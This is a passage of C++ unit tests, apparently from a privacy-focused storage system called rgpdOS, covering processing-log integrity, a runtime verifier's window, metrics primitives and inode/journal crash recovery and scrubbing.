  EXPECT_TRUE(os_->ps().PendingAlerts().empty());
  EXPECT_TRUE(os_->ps().IsActive(*id));
}

TEST_F(CoreTest, RuntimeVerifierTracingStopsAfterVerification) {
  // After kVerificationRuns clean traced runs the fast path takes over;
  // a later behaviour change in the SAME registration is no longer
  // traced (documented trade-off of dynamic verification). This test
  // pins the verification-window semantics.
  int call_count = 0;
  ImplManifest manifest;
  manifest.claimed_purpose = "purpose1";
  manifest.fields_read = {"year_of_birthdate"};
  ProcessingFn sleeper =
      [&call_count](ProcessingInput& input) -> Result<ProcessingOutput> {
    ++call_count;
    (void)input.Field("year_of_birthdate");
    if (call_count > 3) {
      (void)input.Field("name");  // misbehaves only after the window
    }
    return ProcessingOutput{};
  };
  auto id = os_->RegisterProcessingSource(
      "purpose purpose1 { input: user; }", sleeper, manifest);
  ASSERT_TRUE(id.ok());
  PutUser(1, "a", 1990);
  for (int i = 0; i < 6; ++i) {
    auto result = os_->ps().Invoke(kApp, *id, {});
    ASSERT_TRUE(result.ok()) << i;
  }
  // Still active: the sleeper evaded the window (and the consent scope
  // still bounds what it could read — the membrane is the backstop).
  EXPECT_TRUE(os_->ps().IsActive(*id));
}


// ---- Durable processing log ---------------------------------------------------------

TEST_F(CoreTest, ProcessingLogPersistsAndReloads) {
  const dbfs::RecordId record = PutUser(1, "a", 1990);
  ASSERT_TRUE(os_->builtins().Update(PdRef{record, "user"},
                                     db::Row{db::Value(std::string("b")),
                                             db::Value(std::string("pw")),
                                             db::Value(std::int64_t{1991})})
                  .ok());
  ASSERT_TRUE(os_->RightToBeForgotten(1).ok());
  const std::size_t live_entries = os_->processing_log().entries().size();
  ASSERT_GT(live_entries, 0u);

  // Reload from the DBFS store into a fresh log object.
  ProcessingLog reloaded(os_->sim_clock());
  ASSERT_TRUE(reloaded
                  .LoadFromStore(&os_->dbfs_store(),
                                 os_->dbfs().processing_log_inode())
                  .ok());
  EXPECT_EQ(reloaded.entries().size(), live_entries);
  EXPECT_TRUE(reloaded.VerifyChain());
  EXPECT_EQ(reloaded.entries().back().outcome, LogOutcome::kErased);
  // Appends continue the chain seamlessly after a reload.
  reloaded.Append("post", "reload", 1, record, LogOutcome::kExported);
  EXPECT_TRUE(reloaded.VerifyChain());
}

TEST_F(CoreTest, TamperedPersistedLogFailsToLoad) {
  PutUser(1, "a", 1990);
  ASSERT_TRUE(os_->RightToBeForgotten(1).ok());
  const inodefs::InodeId inode = os_->dbfs().processing_log_inode();
  // Find where the raw entries live. Segmented (the default): the
  // manifest in `inode` points at an active-segment inode. Legacy
  // (RGPDOS_AUDIT_DURABLE=0): `inode` holds the flat stream itself.
  // Either way, flip a byte in the middle of the persisted entries.
  inodefs::InodeId active = inode;
  auto manifest = os_->dbfs_store().ReadAll(inode);
  ASSERT_TRUE(manifest.ok());
  if (auditlog::SegmentedLog::LooksLikeManifest(
          ByteSpan(manifest->data(), manifest->size()))) {
    auto segments =
        auditlog::SegmentedLog::Mount(&os_->dbfs_store(), inode, {});
    ASSERT_TRUE(segments.ok()) << segments.status().ToString();
    active = (*segments)->active_inode();
  }
  auto raw = os_->dbfs_store().ReadAll(active);
  ASSERT_TRUE(raw.ok());
  ASSERT_GT(raw->size(), 40u);
  (*raw)[raw->size() / 2] ^= 0x01;
  ASSERT_TRUE(os_->dbfs_store().WriteAll(active, *raw).ok());

  ProcessingLog reloaded(os_->sim_clock());
  const Status loaded = reloaded.LoadFromStore(&os_->dbfs_store(), inode);
  EXPECT_EQ(loaded.code(), StatusCode::kCorruption);
}

// ---- Authority ------------------------------------------------------------------------

TEST_F(CoreTest, AuthorityRecoverRejectsGarbage) {
  EXPECT_FALSE(os_->authority().Recover(ToBytes("not an envelope")).ok());
}

}  // namespace
}  // namespace rgpdos::core
