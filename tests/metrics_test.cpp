// Unit tests for the metrics subsystem: concurrency of the primitives,
// histogram bucket boundary semantics, tracer sampling, the disabled
// fast path, and the snapshot round-trip through the JSON exporter.
#include <gtest/gtest.h>

#include <thread>
#include <vector>

#include "metrics/metrics.hpp"
#include "metrics/trace.hpp"

namespace rgpdos::metrics {
namespace {

TEST(MetricsTest, ConcurrentCounterIncrementsAreExact) {
  Counter counter;
  constexpr int kThreads = 8;
  constexpr int kIncrements = 100000;
  std::vector<std::thread> threads;
  threads.reserve(kThreads);
  for (int t = 0; t < kThreads; ++t) {
    threads.emplace_back([&counter] {
      for (int i = 0; i < kIncrements; ++i) counter.Inc();
    });
  }
  for (std::thread& t : threads) t.join();
  EXPECT_EQ(counter.Value(), std::uint64_t(kThreads) * kIncrements);
}

TEST(MetricsTest, ConcurrentHistogramObservationsAreExact) {
  Histogram histogram({100, 200, 300});
  constexpr int kThreads = 4;
  constexpr int kObservations = 50000;
  std::vector<std::thread> threads;
  for (int t = 0; t < kThreads; ++t) {
    threads.emplace_back([&histogram] {
      for (int i = 0; i < kObservations; ++i) {
        histogram.Observe(static_cast<std::uint64_t>(i % 400));
      }
    });
  }
  for (std::thread& t : threads) t.join();
  EXPECT_EQ(histogram.Count(), std::uint64_t(kThreads) * kObservations);
  std::uint64_t total = 0;
  for (std::size_t i = 0; i < histogram.bucket_count(); ++i) {
    total += histogram.BucketCount(i);
  }
  EXPECT_EQ(total, histogram.Count());
}

TEST(MetricsTest, HistogramBucketBoundaries) {
  // Bucket i counts v <= bounds[i] (le semantics), overflow bucket last.
  Histogram histogram({10, 20, 30});
  for (const std::uint64_t v : {0u, 5u, 10u}) histogram.Observe(v);   // b0
  for (const std::uint64_t v : {11u, 20u}) histogram.Observe(v);      // b1
  for (const std::uint64_t v : {21u, 30u}) histogram.Observe(v);      // b2
  for (const std::uint64_t v : {31u, 1000u}) histogram.Observe(v);    // b3
  EXPECT_EQ(histogram.BucketCount(0), 3u);
  EXPECT_EQ(histogram.BucketCount(1), 2u);
  EXPECT_EQ(histogram.BucketCount(2), 2u);
  EXPECT_EQ(histogram.BucketCount(3), 2u);
  EXPECT_EQ(histogram.Count(), 9u);
  EXPECT_EQ(histogram.Sum(), 0u + 5 + 10 + 11 + 20 + 21 + 30 + 31 + 1000);
}

TEST(MetricsTest, LatencyBucketLadderShape) {
  const std::vector<std::uint64_t>& bounds = LatencyBucketBoundsNs();
  ASSERT_FALSE(bounds.empty());
  EXPECT_EQ(bounds.front(), 256u);
  EXPECT_GE(bounds.back(), 1u << 30);
  for (std::size_t i = 1; i < bounds.size(); ++i) {
    EXPECT_EQ(bounds[i], bounds[i - 1] * 2);
  }
}

TEST(MetricsTest, ApproxQuantileInterpolates) {
  HistogramSnapshot h;
  h.name = "q";
  h.bounds = {100, 200};
  h.buckets = {10, 10, 0};  // uniform-ish: 10 in (0,100], 10 in (100,200]
  h.count = 20;
  h.sum = 3000;
  EXPECT_NEAR(h.ApproxQuantile(0.5), 100.0, 1e-9);
  EXPECT_NEAR(h.ApproxQuantile(0.25), 50.0, 1e-9);
  EXPECT_NEAR(h.ApproxQuantile(1.0), 200.0, 1e-9);
  EXPECT_NEAR(h.Mean(), 150.0, 1e-9);
}

TEST(MetricsTest, RegistryHandsOutStableReferences) {
  MetricsRegistry& registry = MetricsRegistry::Instance();
  Counter& a = registry.GetCounter("metrics_test.stable");
  Counter& b = registry.GetCounter("metrics_test.stable");
  EXPECT_EQ(&a, &b);
  a.Inc(3);
  const MetricsSnapshot snapshot = registry.Snapshot();
  const std::uint64_t* value = snapshot.FindCounter("metrics_test.stable");
  ASSERT_NE(value, nullptr);
  EXPECT_GE(*value, 3u);
}

TEST(MetricsTest, DisabledMacrosDoNotRecord) {
  MetricsRegistry& registry = MetricsRegistry::Instance();
  registry.ResetAll();
  SetEnabled(false);
  RGPD_METRIC_COUNT("metrics_test.disabled");
  RGPD_METRIC_OBSERVE("metrics_test.disabled_hist", 42);
  { RGPD_METRIC_SCOPED_LATENCY("metrics_test.disabled_lat"); }
  { RGPD_TRACE_SPAN("metrics_test", "disabled_span"); }
  SetEnabled(true);
  const MetricsSnapshot snapshot = registry.Snapshot();
  // Disabled call sites never even register their metrics.
  EXPECT_EQ(snapshot.FindCounter("metrics_test.disabled"), nullptr);
  EXPECT_EQ(snapshot.FindHistogram("metrics_test.disabled_hist"), nullptr);
  EXPECT_EQ(snapshot.FindHistogram("metrics_test.disabled_lat"), nullptr);
  for (const SpanSnapshot& s : snapshot.spans) {
    EXPECT_NE(s.name, "disabled_span");
  }

  // Re-enabled: the same sites record again.
  RGPD_METRIC_COUNT("metrics_test.disabled");
  const MetricsSnapshot after = MetricsRegistry::Instance().Snapshot();
  const std::uint64_t* value = after.FindCounter("metrics_test.disabled");
  ASSERT_NE(value, nullptr);
  EXPECT_EQ(*value, 1u);
}

TEST(MetricsTest, TracerSamplesOneInN) {
  MetricsRegistry& registry = MetricsRegistry::Instance();
  registry.ResetAll();
  registry.tracer().SetSampleEvery("metrics_test_sampled", 2);
  for (int i = 0; i < 10; ++i) {
    RGPD_TRACE_SPAN("metrics_test_sampled", "op");
  }
  std::size_t recorded = 0;
  for (const SpanSnapshot& s : registry.tracer().Spans()) {
    if (s.component == "metrics_test_sampled") ++recorded;
  }
  EXPECT_EQ(recorded, 5u);  // seq 0, 2, 4, 6, 8

  // Sampling period 0 disables the component entirely.
  registry.ResetAll();
  registry.tracer().SetSampleEvery("metrics_test_sampled", 0);
  for (int i = 0; i < 10; ++i) {
    RGPD_TRACE_SPAN("metrics_test_sampled", "op");
  }
  for (const SpanSnapshot& s : registry.tracer().Spans()) {
    EXPECT_NE(s.component, "metrics_test_sampled");
  }
  registry.tracer().SetSampleEvery("metrics_test_sampled", 1);
}

TEST(MetricsTest, TracerRingKeepsNewestSpans) {
  Tracer tracer(/*capacity=*/4);
  for (int i = 0; i < 10; ++i) {
    SpanSnapshot span;
    span.component = "c";
    span.name = "s";
    span.start_us = i;
    tracer.Record(std::move(span));
  }
  const std::vector<SpanSnapshot> spans = tracer.Spans();
  ASSERT_EQ(spans.size(), 4u);
  EXPECT_EQ(spans.front().start_us, 6);
  EXPECT_EQ(spans.back().start_us, 9);
}

TEST(MetricsTest, SnapshotJsonRoundTrip) {
  MetricsSnapshot snapshot;
  snapshot.counters = {{"a.count", 1}, {"b \"quoted\"\n", 12345678901234ull}};
  snapshot.gauges = {{"g.level", -42}};
  HistogramSnapshot h;
  h.name = "h.latency_ns";
  h.bounds = {256, 512, 1024};
  h.buckets = {1, 0, 2, 7};
  h.count = 10;
  h.sum = 123456;
  snapshot.histograms.push_back(h);
  SpanSnapshot span;
  span.component = "core";
  span.name = "ded_execute";
  span.start_us = 1723300000000000;
  span.duration_ns = 98765;
  snapshot.spans.push_back(span);

  auto parsed = MetricsSnapshot::FromJson(snapshot.ToJson());
  ASSERT_TRUE(parsed.ok()) << parsed.status().ToString();
  EXPECT_EQ(*parsed, snapshot);
}

TEST(MetricsTest, EmptySnapshotJsonRoundTrip) {
  const MetricsSnapshot empty;
  auto parsed = MetricsSnapshot::FromJson(empty.ToJson());
  ASSERT_TRUE(parsed.ok()) << parsed.status().ToString();
  EXPECT_EQ(*parsed, empty);
}

TEST(MetricsTest, FromJsonToleratesUnknownKeysAndRejectsGarbage) {
  auto parsed = MetricsSnapshot::FromJson(
      R"({"future_section": {"x": [1, 2, {"y": "z"}]},
          "counters": {"kept": 7},
          "histograms": {"h": {"count": 1, "sum": 2, "bounds": [1],
                               "buckets": [1, 0], "p999_hint": 1.5}}})");
  ASSERT_TRUE(parsed.ok()) << parsed.status().ToString();
  const std::uint64_t* kept = parsed->FindCounter("kept");
  ASSERT_NE(kept, nullptr);
  EXPECT_EQ(*kept, 7u);
  ASSERT_NE(parsed->FindHistogram("h"), nullptr);
  EXPECT_EQ(parsed->FindHistogram("h")->count, 1u);

  EXPECT_FALSE(MetricsSnapshot::FromJson("").ok());
  EXPECT_FALSE(MetricsSnapshot::FromJson("{").ok());
  EXPECT_FALSE(MetricsSnapshot::FromJson(R"({"counters": {"a": }})").ok());
  EXPECT_FALSE(MetricsSnapshot::FromJson(R"({} trailing)").ok());
}

TEST(MetricsTest, ResetAllZeroesValuesButKeepsRegistrations) {
  MetricsRegistry& registry = MetricsRegistry::Instance();
  Counter& counter = registry.GetCounter("metrics_test.reset");
  Histogram& histogram = registry.LatencyHistogram("metrics_test.reset_h");
  counter.Inc(5);
  histogram.Observe(1000);
  registry.ResetAll();
  EXPECT_EQ(counter.Value(), 0u);
  EXPECT_EQ(histogram.Count(), 0u);
  // Same reference after reset: cached call sites stay valid.
  EXPECT_EQ(&registry.GetCounter("metrics_test.reset"), &counter);
}

TEST(MetricsTest, TextSnapshotMentionsEveryMetric) {
  MetricsRegistry& registry = MetricsRegistry::Instance();
  registry.ResetAll();
  registry.GetCounter("metrics_test.text_counter").Inc(2);
  registry.GetGauge("metrics_test.text_gauge").Set(-3);
  registry.LatencyHistogram("metrics_test.text_hist").Observe(300);
  const std::string text = registry.TextSnapshot();
  EXPECT_NE(text.find("counter metrics_test.text_counter 2"),
            std::string::npos);
  EXPECT_NE(text.find("gauge metrics_test.text_gauge -3"), std::string::npos);
  EXPECT_NE(text.find("histogram metrics_test.text_hist count=1"),
            std::string::npos);
}

}  // namespace
}  // namespace rgpdos::metrics
