// InodeStore and journal tests: format/mount, inode lifecycle, file IO
// across direct/indirect blocks, truncation and scrubbing, journal
// crash-recovery, and the leak semantics the Fig-2 experiment relies on.
#include <gtest/gtest.h>

#include "blockdev/block_device.hpp"
#include "common/crc32.hpp"
#include "inodefs/inode_store.hpp"

namespace rgpdos::inodefs {
namespace {

class InodeStoreTest : public ::testing::Test {
 protected:
  void SetUp() override {
    device_ = std::make_unique<blockdev::MemBlockDevice>(512, 2048);
    InodeStore::Options options;
    options.inode_count = 64;
    options.journal_blocks = 128;
    auto store = InodeStore::Format(device_.get(), options, &clock_);
    ASSERT_TRUE(store.ok()) << store.status().ToString();
    store_ = std::move(store).value();
  }

  Bytes Pattern(std::size_t n, std::uint8_t seed = 1) {
    Bytes out(n);
    for (std::size_t i = 0; i < n; ++i) {
      out[i] = static_cast<std::uint8_t>(seed + i * 7);
    }
    return out;
  }

  SimClock clock_{1000};
  std::unique_ptr<blockdev::MemBlockDevice> device_;
  std::unique_ptr<InodeStore> store_;
};

TEST_F(InodeStoreTest, FormatLayoutIsSane) {
  const Superblock& sb = store_->superblock();
  EXPECT_EQ(sb.magic, kSuperblockMagic);
  EXPECT_EQ(sb.block_size, 512u);
  EXPECT_GT(sb.data_start, sb.journal_start);
  EXPECT_GT(sb.journal_start, sb.inode_table_start);
  EXPECT_GT(sb.inode_table_start, sb.bitmap_start);
  EXPECT_GT(store_->FreeBlockCount(), 0u);
}

TEST_F(InodeStoreTest, PlanRejectsBadGeometry) {
  EXPECT_FALSE(Superblock::Plan(100, 1024, 64, 16).ok());  // not pow2
  EXPECT_FALSE(Superblock::Plan(512, 10, 64, 16).ok());    // too small
  EXPECT_FALSE(Superblock::Plan(512, 1024, 0, 16).ok());   // no inodes
}

TEST_F(InodeStoreTest, InodeAllocFreeCycle) {
  auto id = store_->AllocInode(InodeKind::kFile);
  ASSERT_TRUE(id.ok());
  auto inode = store_->GetInode(*id);
  ASSERT_TRUE(inode.ok());
  EXPECT_EQ(inode->kind, InodeKind::kFile);
  EXPECT_EQ(inode->size, 0u);
  EXPECT_EQ(inode->ctime, clock_.Now());

  ASSERT_TRUE(store_->FreeInode(*id, false).ok());
  auto freed = store_->GetInode(*id);
  ASSERT_TRUE(freed.ok());
  EXPECT_EQ(freed->kind, InodeKind::kFree);
  // Generation bumps on reuse so stale references are detectable.
  auto id2 = store_->AllocInode(InodeKind::kDirectory);
  ASSERT_TRUE(id2.ok());
  EXPECT_EQ(*id2, *id);  // first-fit reuses the slot
  EXPECT_GT(store_->GetInode(*id2)->generation, inode->generation);
}

TEST_F(InodeStoreTest, InodeTableExhaustion) {
  std::vector<InodeId> ids;
  for (;;) {
    auto id = store_->AllocInode(InodeKind::kFile);
    if (!id.ok()) {
      EXPECT_EQ(id.status().code(), StatusCode::kResourceExhausted);
      break;
    }
    ids.push_back(*id);
  }
  EXPECT_EQ(ids.size(), 63u);  // inode 0 reserved
}

TEST_F(InodeStoreTest, WriteReadSmallFile) {
  auto id = store_->AllocInode(InodeKind::kFile);
  ASSERT_TRUE(id.ok());
  const Bytes data = ToBytes("hello inode world");
  ASSERT_TRUE(store_->WriteAt(*id, 0, data).ok());
  EXPECT_EQ(*store_->ReadAll(*id), data);
  EXPECT_EQ(store_->GetInode(*id)->size, data.size());
}

TEST_F(InodeStoreTest, WriteAcrossDirectAndIndirectBlocks) {
  auto id = store_->AllocInode(InodeKind::kFile);
  ASSERT_TRUE(id.ok());
  // 12 direct blocks of 512 = 6144; write 20 KiB to force the indirect.
  const Bytes data = Pattern(20 * 1024);
  ASSERT_TRUE(store_->WriteAt(*id, 0, data).ok());
  EXPECT_EQ(*store_->ReadAll(*id), data);
  // Partial reads at unaligned offsets.
  EXPECT_EQ(*store_->ReadAt(*id, 6000, 1000),
            Bytes(data.begin() + 6000, data.begin() + 7000));
}

TEST_F(InodeStoreTest, SparseFileReadsZerosInHoles) {
  auto id = store_->AllocInode(InodeKind::kFile);
  ASSERT_TRUE(id.ok());
  ASSERT_TRUE(store_->WriteAt(*id, 5000, ToBytes("tail")).ok());
  const Bytes content = *store_->ReadAll(*id);
  EXPECT_EQ(content.size(), 5004u);
  for (std::size_t i = 0; i < 5000; ++i) EXPECT_EQ(content[i], 0) << i;
}

TEST_F(InodeStoreTest, OverwriteInPlace) {
  auto id = store_->AllocInode(InodeKind::kFile);
  ASSERT_TRUE(id.ok());
  ASSERT_TRUE(store_->WriteAt(*id, 0, ToBytes("aaaaaaaaaa")).ok());
  ASSERT_TRUE(store_->WriteAt(*id, 3, ToBytes("XYZ")).ok());
  EXPECT_EQ(ToString(*store_->ReadAll(*id)), "aaaXYZaaaa");
}

TEST_F(InodeStoreTest, WriteAllReplacesContent) {
  auto id = store_->AllocInode(InodeKind::kFile);
  ASSERT_TRUE(id.ok());
  ASSERT_TRUE(store_->WriteAll(*id, Pattern(3000)).ok());
  ASSERT_TRUE(store_->WriteAll(*id, ToBytes("short")).ok());
  EXPECT_EQ(ToString(*store_->ReadAll(*id)), "short");
}

TEST_F(InodeStoreTest, TruncateFreesBlocks) {
  auto id = store_->AllocInode(InodeKind::kFile);
  ASSERT_TRUE(id.ok());
  const std::uint64_t before = store_->FreeBlockCount();
  ASSERT_TRUE(store_->WriteAt(*id, 0, Pattern(10 * 1024)).ok());
  EXPECT_LT(store_->FreeBlockCount(), before);
  ASSERT_TRUE(store_->Truncate(*id, 0, false).ok());
  EXPECT_EQ(store_->FreeBlockCount(), before);
  EXPECT_EQ(store_->GetInode(*id)->size, 0u);
}

TEST_F(InodeStoreTest, PlainTruncateLeaksTheFreedBytes) {
  // ext4-like behaviour: freed blocks keep their contents.
  auto id = store_->AllocInode(InodeKind::kFile);
  ASSERT_TRUE(id.ok());
  const Bytes secret = ToBytes("LEAKY_PLAINTEXT_PD");
  ASSERT_TRUE(store_->WriteAt(*id, 0, secret).ok());
  ASSERT_TRUE(store_->Truncate(*id, 0, /*scrub=*/false).ok());
  EXPECT_GT(blockdev::CountBlocksContaining(*device_, secret), 0u);
}

TEST_F(InodeStoreTest, ScrubbedTruncateThenJournalScrubDestroysAllBytes) {
  auto id = store_->AllocInode(InodeKind::kFile);
  ASSERT_TRUE(id.ok());
  const Bytes secret = ToBytes("SCRUBBED_PLAINTEXT_PD");
  ASSERT_TRUE(store_->WriteAt(*id, 0, secret).ok());
  // Scrubbed truncate zeros the data region, but the journal still holds
  // the original write...
  ASSERT_TRUE(store_->Truncate(*id, 0, /*scrub=*/true).ok());
  EXPECT_GT(blockdev::CountBlocksContaining(*device_, secret), 0u);
  // ...until the journal itself is scrubbed (the rgpdOS erasure path).
  ASSERT_TRUE(store_->ScrubJournal().ok());
  EXPECT_EQ(blockdev::CountBlocksContaining(*device_, secret), 0u);
}

TEST_F(InodeStoreTest, MountSeesPersistedState) {
  auto id = store_->AllocInode(InodeKind::kFile);
  ASSERT_TRUE(id.ok());
  ASSERT_TRUE(store_->WriteAt(*id, 0, ToBytes("durable")).ok());
  ASSERT_TRUE(store_->Sync().ok());
  store_.reset();

  auto mounted = InodeStore::Mount(device_.get(), &clock_);
  ASSERT_TRUE(mounted.ok()) << mounted.status().ToString();
  EXPECT_EQ(ToString(*(*mounted)->ReadAll(*id)), "durable");
}

TEST_F(InodeStoreTest, MountRejectsUnformattedDevice) {
  blockdev::MemBlockDevice fresh(512, 64);
  EXPECT_EQ(InodeStore::Mount(&fresh, &clock_).status().code(),
            StatusCode::kCorruption);
}

TEST_F(InodeStoreTest, CrashBeforeCheckpointIsRecoveredFromJournal) {
  auto id = store_->AllocInode(InodeKind::kFile);
  ASSERT_TRUE(id.ok());
  ASSERT_TRUE(store_->Sync().ok());

  // Crash mode: the write reaches the journal but never the data region.
  store_->SetCrashBeforeCheckpoint(true);
  const Bytes data = ToBytes("committed but not checkpointed");
  ASSERT_TRUE(store_->WriteAt(*id, 0, data).ok());
  store_.reset();  // power loss

  auto recovered = InodeStore::Mount(device_.get(), &clock_);
  ASSERT_TRUE(recovered.ok()) << recovered.status().ToString();
  EXPECT_EQ(*(*recovered)->ReadAll(*id), data);
}

TEST_F(InodeStoreTest, CrashedTransactionChainOnSameBlockReplaysCoherently) {
  // Two journal-only transactions rewrite the same block; the second must
  // diff against the first's committed image (the page-cache overlay),
  // not the stale medium. If it diffed against the medium, the second
  // record would encode zero extents here — the final write restores the
  // exact bytes the device still holds — and replay, which chains the
  // second record onto the first's reconstructed image, would leave the
  // intermediate state in place.
  auto id = store_->AllocInode(InodeKind::kFile);
  ASSERT_TRUE(id.ok());
  const Bytes original = ToBytes("ORIGINAL_CONTENT");
  ASSERT_TRUE(store_->WriteAt(*id, 0, original).ok());
  ASSERT_TRUE(store_->Sync().ok());

  store_->SetCrashBeforeCheckpoint(true);
  ASSERT_TRUE(store_->WriteAt(*id, 0, Bytes(original.size(), 'Z')).ok());
  ASSERT_TRUE(store_->WriteAt(*id, 0, original).ok());
  store_.reset();  // power loss

  auto recovered = InodeStore::Mount(device_.get(), &clock_);
  ASSERT_TRUE(recovered.ok()) << recovered.status().ToString();
  EXPECT_EQ(*(*recovered)->ReadAll(*id), original);
}

TEST_F(InodeStoreTest, TornTransactionIsDiscardedOnMount) {
  auto id = store_->AllocInode(InodeKind::kFile);
  ASSERT_TRUE(id.ok());
  ASSERT_TRUE(store_->WriteAt(*id, 0, ToBytes("stable")).ok());
  ASSERT_TRUE(store_->Sync().ok());

  // Corrupt the journal tail: overwrite the last journal blocks with a
  // half-written record (valid magic, wrong CRC).
  const Superblock& sb = store_->superblock();
  Bytes garbage(sb.block_size, 0);
  garbage[0] = 0x4A;  // 'J'
  garbage[1] = 0x52;  // 'R'
  garbage[2] = 0x4E;  // 'N'
  garbage[3] = 0x4C;  // 'L'
  ASSERT_TRUE(
      device_->WriteBlock(sb.journal_start + sb.journal_blocks - 1, garbage)
          .ok());
  store_.reset();

  auto mounted = InodeStore::Mount(device_.get(), &clock_);
  ASSERT_TRUE(mounted.ok()) << mounted.status().ToString();
  EXPECT_EQ(ToString(*(*mounted)->ReadAll(*id)), "stable");
}

TEST_F(InodeStoreTest, JournalDisabledStillWritesInPlace) {
  blockdev::MemBlockDevice device(512, 1024);
  InodeStore::Options options;
  options.inode_count = 16;
  options.journal_blocks = 8;
  options.journal_enabled = false;
  auto store = InodeStore::Format(&device, options, &clock_);
  ASSERT_TRUE(store.ok());
  auto id = (*store)->AllocInode(InodeKind::kFile);
  ASSERT_TRUE(id.ok());
  ASSERT_TRUE((*store)->WriteAt(*id, 0, ToBytes("no journal")).ok());
  EXPECT_EQ(ToString(*(*store)->ReadAll(*id)), "no journal");
  EXPECT_EQ((*store)->journal().bytes_logged(), 0u);
}

TEST_F(InodeStoreTest, MaxFileSizeIsEnforced) {
  auto id = store_->AllocInode(InodeKind::kFile);
  ASSERT_TRUE(id.ok());
  const std::uint64_t ppb = 512 / 8;
  const std::uint64_t max = store_->MaxFileSize();
  EXPECT_EQ(max, (12 + ppb + ppb * ppb) * 512u);
  EXPECT_EQ(store_->WriteAt(*id, max, ToBytes("x")).code(),
            StatusCode::kOutOfRange);
}

TEST_F(InodeStoreTest, DoubleIndirectReadWriteAndReclaim) {
  // A file deep into the double-indirect region: write a few scattered
  // extents beyond direct+single capacity, read them back, then truncate
  // to zero and verify every block (incl. the indirect spine) returns.
  auto id = store_->AllocInode(InodeKind::kFile);
  ASSERT_TRUE(id.ok());
  const std::uint64_t ppb = 512 / 8;
  const std::uint64_t single_capacity = (12 + ppb) * 512;
  const std::uint64_t free_before = store_->FreeBlockCount();

  const Bytes tail = ToBytes("DEEP_DOUBLE_INDIRECT_DATA");
  // Offsets straddling the single/double boundary and two inner blocks.
  const std::uint64_t offsets[] = {single_capacity - 10,
                                   single_capacity + 40,
                                   single_capacity + 512 * ppb + 7};
  for (std::uint64_t offset : offsets) {
    ASSERT_TRUE(store_->WriteAt(id.value(), offset, tail).ok()) << offset;
  }
  for (std::uint64_t offset : offsets) {
    auto content = store_->ReadAt(*id, offset, tail.size());
    ASSERT_TRUE(content.ok()) << offset;
    EXPECT_EQ(*content, tail) << offset;
  }
  // Holes in between read as zeros.
  auto hole = store_->ReadAt(*id, single_capacity + 512 * 3, 64);
  ASSERT_TRUE(hole.ok());
  EXPECT_EQ(*hole, Bytes(64, 0));

  ASSERT_TRUE(store_->Truncate(*id, 0, /*scrub=*/false).ok());
  EXPECT_EQ(store_->FreeBlockCount(), free_before);
  EXPECT_EQ(store_->GetInode(*id)->indirect, 0u);
  EXPECT_EQ(store_->GetInode(*id)->double_indirect, 0u);
}

TEST_F(InodeStoreTest, TruncatePartialTailZeroesStaleBytes) {
  // Shrink into the middle of a block, then extend again: the regrown
  // range must read zeros, not the pre-truncate bytes.
  auto id = store_->AllocInode(InodeKind::kFile);
  ASSERT_TRUE(id.ok());
  ASSERT_TRUE(store_->WriteAt(*id, 0, Bytes(400, 0xEE)).ok());
  ASSERT_TRUE(store_->Truncate(*id, 100, /*scrub=*/false).ok());
  ASSERT_TRUE(store_->WriteAt(*id, 300, ToBytes("x")).ok());
  auto content = store_->ReadAt(*id, 100, 200);
  ASSERT_TRUE(content.ok());
  EXPECT_EQ(*content, Bytes(200, 0));
}

TEST_F(InodeStoreTest, JournalBytesLoggedGrows) {
  auto id = store_->AllocInode(InodeKind::kFile);
  ASSERT_TRUE(id.ok());
  const std::uint64_t before = store_->journal().bytes_logged();
  ASSERT_TRUE(store_->WriteAt(*id, 0, Pattern(2000)).ok());
  EXPECT_GT(store_->journal().bytes_logged(), before);
}

TEST_F(InodeStoreTest, ReadPastEndFails) {
  auto id = store_->AllocInode(InodeKind::kFile);
  ASSERT_TRUE(id.ok());
  ASSERT_TRUE(store_->WriteAt(*id, 0, ToBytes("abc")).ok());
  EXPECT_EQ(store_->ReadAt(*id, 10, 5).status().code(),
            StatusCode::kOutOfRange);
  // Reading exactly to the end is fine and clamps length.
  EXPECT_EQ(ToString(*store_->ReadAt(*id, 1, 100)), "bc");
}

TEST_F(InodeStoreTest, FreeInodeChecksRange) {
  EXPECT_EQ(store_->GetInode(0).status().code(),
            StatusCode::kInvalidArgument);
  EXPECT_EQ(store_->GetInode(9999).status().code(),
            StatusCode::kInvalidArgument);
}

// ---- journal regression tests ----------------------------------------------
//
// Direct Journal-level scenarios with a tiny 8-block region where the
// geometry is exact: a 512-byte-payload data record is 2 blocks, a
// commit record 1 block, so a one-write transaction occupies 3 blocks.

class JournalTest : public ::testing::Test {
 protected:
  void SetUp() override {
    device_ = std::make_unique<blockdev::MemBlockDevice>(512, 2048);
    auto sb = Superblock::Plan(512, 2048, 16, 8);
    ASSERT_TRUE(sb.ok()) << sb.status().ToString();
    sb_ = *sb;
  }

  /// A full-block payload with a distinctive fill byte.
  Bytes Block(std::uint8_t fill) { return Bytes(512, fill); }

  std::unique_ptr<blockdev::MemBlockDevice> device_;
  Superblock sb_;
};

TEST_F(JournalTest, WrapResumeHeadTracksHighestSeqCommit) {
  Journal journal(*device_, sb_);
  const BlockIndex x = sb_.data_start;
  const BlockIndex y = sb_.data_start + 1;
  // A: blocks 0-2, B: blocks 3-5. C's data record fits exactly in 6-7,
  // but its commit wraps to block 0, clobbering A's data record.
  ASSERT_TRUE(journal.AppendTransaction({{x, Block(0xA1), JournalWrite::kBaseNone, {}}}).ok());
  ASSERT_TRUE(journal.AppendTransaction({{y, Block(0xB1), JournalWrite::kBaseNone, {}}}).ok());
  ASSERT_TRUE(journal.AppendTransaction({{x, Block(0xC1), JournalWrite::kBaseNone, {}}}).ok());
  ASSERT_EQ(sb_.journal_head, 1u);

  auto writes = journal.Replay();
  ASSERT_TRUE(writes.ok()) << writes.status().ToString();
  // A's commit survived (block 2) but its data record did not: discarded
  // as incomplete. B and C replay in seq order.
  ASSERT_EQ(writes->size(), 2u);
  EXPECT_EQ((*writes)[0].block, y);
  EXPECT_EQ((*writes)[0].data, Block(0xB1));
  EXPECT_EQ((*writes)[1].block, x);
  EXPECT_EQ((*writes)[1].data, Block(0xC1));
  EXPECT_EQ(journal.last_replay().incomplete_txns, 1u);
  // Regression (resume-head bug): the head must resume after C — the
  // HIGHEST-SEQ commit, at region block 1 — not after B, whose commit
  // sits at the higher block offset 6. Resuming at 6 would let the next
  // append overwrite C while B's stale record stayed replayable.
  EXPECT_EQ(sb_.journal_head, 1u);
  EXPECT_EQ(sb_.journal_seq, 3u);
}

TEST_F(JournalTest, CommittedTxnWithMissingRecordsIsDiscarded) {
  Journal journal(*device_, sb_);
  const BlockIndex x = sb_.data_start;
  // A: three data records + commit = 7 blocks (0-6).
  ASSERT_TRUE(journal
